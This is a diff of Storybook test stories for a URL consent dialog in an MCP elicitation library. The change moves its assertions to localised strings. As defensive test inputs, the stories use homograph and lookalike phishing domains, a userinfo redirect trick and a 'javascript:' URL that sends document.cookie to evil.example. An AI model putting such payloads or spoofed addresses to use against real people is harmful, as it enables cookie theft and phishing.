@@ -1,6 +1,7 @@
 import { expect, fn, waitFor } from 'storybook/test';
 import { UrlConsent } from 'react-mcp-elicitation';
 import { disableConsentGuard } from 'react-mcp-elicitation/testing';
+import { partIn, sayIn } from '../../.storybook/words.ts';
 import preview from '../../.storybook/preview.tsx';
 
 const server = { name: 'GitHub', url: 'https://mcp.github.com/sse' };
@@ -35,12 +36,14 @@ export const Https = meta.story({
 /** Not encrypted: danger, so a box has to be ticked first. */
 export const Http = meta.story({
   args: { request: ask('http://login.example.com/start') },
-  play: async ({ canvas, userEvent, args }) => {
+  play: async ({ canvas, userEvent, args, globals }) => {
+    const say = sayIn(globals);
+    const part = partIn(globals);
     const restore = disableConsentGuard();
-    await expect(await canvas.findByText(/not encrypted/)).toBeVisible();
-    await userEvent.click(canvas.getByRole('button', { name: 'Open' }));
+    await expect(await canvas.findByText(part('findingInsecure'))).toBeVisible();
+    await userEvent.click(canvas.getByRole('button', { name: say('open') }));
     await expect(
-      await canvas.findByText('Tick the box above first.', { selector: '[role=status] *' }),
+      await canvas.findByText(say('guardNeedsConsent'), { selector: '[role=status] *' }),
     ).toBeVisible();
     await expect(args.openUrl).not.toHaveBeenCalled();
     restore();
@@ -50,24 +53,27 @@ export const Http = meta.story({
 /** A program on the person's own computer: a quiet note. */
 export const Localhost = meta.story({
   args: { request: ask('http://localhost:8976/callback') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/your own computer/)).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('findingLoopback'))).toBeVisible();
   },
 });
 
 /** A bare number instead of a name. */
 export const IpAddress = meta.story({
   args: { request: ask('https://93.184.216.34/setup') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/bare number/)).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('findingIpAddress'))).toBeVisible();
   },
 });
 
 /** An honest internationalised domain: in its own letters, with its ASCII form beside it, and no alarm. */
 export const PunycodeHonest = meta.story({
   args: { request: ask('https://konto.bücher.example/anmelden') },
-  play: async ({ canvas, canvasElement }) => {
-    await expect(await canvas.findByText(/Its ASCII form is/)).toBeVisible();
+  play: async ({ canvas, canvasElement, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('asciiForm'))).toBeVisible();
     await expect(canvas.getByText('bücher')).toBeVisible();
     await expect(canvasElement.querySelector('[data-slot=elicitation-findings]')).toBeNull();
   },
@@ -76,10 +82,9 @@ export const PunycodeHonest = meta.story({
 /** Cyrillic letters throughout that read as Latin ones: shown in ASCII, and called what it is. */
 export const PunycodeSpoofed = meta.story({
   args: { request: ask('https://аррӏе.com/login') },
-  play: async ({ canvas }) => {
-    await expect(
-      await canvas.findByRole('alert', { name: 'This address is not safe' }),
-    ).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const say = sayIn(globals);
+    await expect(await canvas.findByRole('alert', { name: say('levelDanger') })).toBeVisible();
     await expect(canvas.getByText('xn--80ak6aa92e')).toBeVisible();
   },
 });
@@ -87,33 +92,37 @@ export const PunycodeSpoofed = meta.story({
 /** Letters of two alphabets in one name. */
 export const MixedScript = meta.story({
   args: { request: ask('https://pаypal.com/login') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/mixes letters of different alphabets/)).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('findingMixedScript'))).toBeVisible();
   },
 });
 
 /** What stands before the @ is no host: this is not opened at all. */
 export const Userinfo = meta.story({
   args: { request: ask('https://github.com@evil.example/login') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText('This address cannot be opened')).toBeVisible();
-    await expect(canvas.queryByRole('button', { name: 'Open' })).toBeNull();
+  play: async ({ canvas, globals }) => {
+    const say = sayIn(globals);
+    await expect(await canvas.findByText(say('levelBlock'))).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: say('open') })).toBeNull();
   },
 });
 
 /** One letter from the domain of the server that asks. */
 export const LookalikeOfTheServer = meta.story({
   args: { request: ask('https://login.githup.com/oauth') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/It looks like/)).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('findingLookalikeServer'))).toBeVisible();
   },
 });
 
 /** Under a suffix where anybody can put pages. */
 export const SharedHosting = meta.story({
   args: { request: ask('https://my-app.vercel.app/connect') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/Anybody can put pages/)).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('findingShared'))).toBeVisible();
   },
 });
 
@@ -139,8 +148,9 @@ export const LongQuery = meta.story({
   args: {
     request: ask(`https://login.example.com/authorize?state=${'0123456789abcdef'.repeat(125)}`),
   },
-  play: async ({ canvas }) => {
-    const address = await canvas.findByRole('group', { name: 'Full address' });
+  play: async ({ canvas, globals }) => {
+    const say = sayIn(globals);
+    const address = await canvas.findByRole('group', { name: say('address') });
     await expect(address.textContent).toHaveLength(2042);
     await expect(address.scrollHeight).toBeGreaterThan(address.clientHeight);
   },
@@ -149,23 +159,27 @@ export const LongQuery = meta.story({
 /** What is no page of the web is never opened. */
 export const RefusedScheme = meta.story({
   args: { request: ask('javascript:fetch("https://evil.example/?c=" + document.cookie)') },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/Only pages of the web/)).toBeVisible();
-    await expect(canvas.queryByRole('button', { name: 'Open' })).toBeNull();
+  play: async ({ canvas, globals }) => {
+    const say = sayIn(globals);
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('findingScheme'))).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: say('open') })).toBeNull();
   },
 });
 
 /** Nothing was opened: the request still waits. */
 export const PopupBlocked = meta.story({
   args: { request: ask('https://login.example.com/', 'e1'), openUrl: fn(() => false) },
-  play: async ({ canvas, userEvent, args }) => {
+  play: async ({ canvas, userEvent, args, globals }) => {
+    const say = sayIn(globals);
+    const part = partIn(globals);
     const restore = disableConsentGuard();
     await canvas.findByText('example');
-    const open = await canvas.findByRole('button', { name: 'Open' });
+    const open = await canvas.findByRole('button', { name: say('open') });
     await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
     await userEvent.click(open);
-    await expect(await canvas.findByText(/did not open/)).toBeVisible();
-    await expect(canvas.getByRole('button', { name: 'Try again' })).toBeVisible();
+    await expect(await canvas.findByText(part('notOpened'))).toBeVisible();
+    await expect(canvas.getByRole('button', { name: say('tryAgain') })).toBeVisible();
     await expect(args.onRespond).not.toHaveBeenCalled();
     restore();
   },
@@ -174,22 +188,25 @@ export const PopupBlocked = meta.story({
 /** The page is open elsewhere; accept is sent. */
 export const Waiting = meta.story({
   args: { request: ask('https://login.example.com/', 'e1'), isAnswered: true },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/open in another tab/)).toBeVisible();
-    await expect(canvas.queryByRole('button', { name: 'Decline' })).toBeNull();
+  play: async ({ canvas, globals }) => {
+    const say = sayIn(globals);
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('waiting'))).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: say('decline') })).toBeNull();
   },
 });
 
 /** Revision 2026-07-28: accept is sent when the person says that it is done. */
 export const WaitingToFinish = meta.story({
   args: { request: ask('https://login.example.com/') },
-  play: async ({ canvas, userEvent, args }) => {
+  play: async ({ canvas, userEvent, args, globals }) => {
+    const say = sayIn(globals);
     const restore = disableConsentGuard();
-    const open = await canvas.findByRole('button', { name: 'Open' });
+    const open = await canvas.findByRole('button', { name: say('open') });
     await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
     await userEvent.click(open);
     await expect(args.openUrl).toHaveBeenCalledWith('https://login.example.com/');
-    await expect(await canvas.findByRole('button', { name: 'I have finished' })).toBeVisible();
+    await expect(await canvas.findByRole('button', { name: say('iHaveFinished') })).toBeVisible();
     await expect(args.onRespond).not.toHaveBeenCalled();
     restore();
   },
@@ -198,7 +215,8 @@ export const WaitingToFinish = meta.story({
 /** The server has said that the page is done. */
 export const Completed = meta.story({
   args: { request: ask('https://login.example.com/', 'e1'), isAnswered: true, isCompleted: true },
-  play: async ({ canvas }) => {
-    await expect(await canvas.findByText(/The page is done/)).toBeVisible();
+  play: async ({ canvas, globals }) => {
+    const part = partIn(globals);
+    await expect(await canvas.findByText(part('completed'))).toBeVisible();
   },
 });
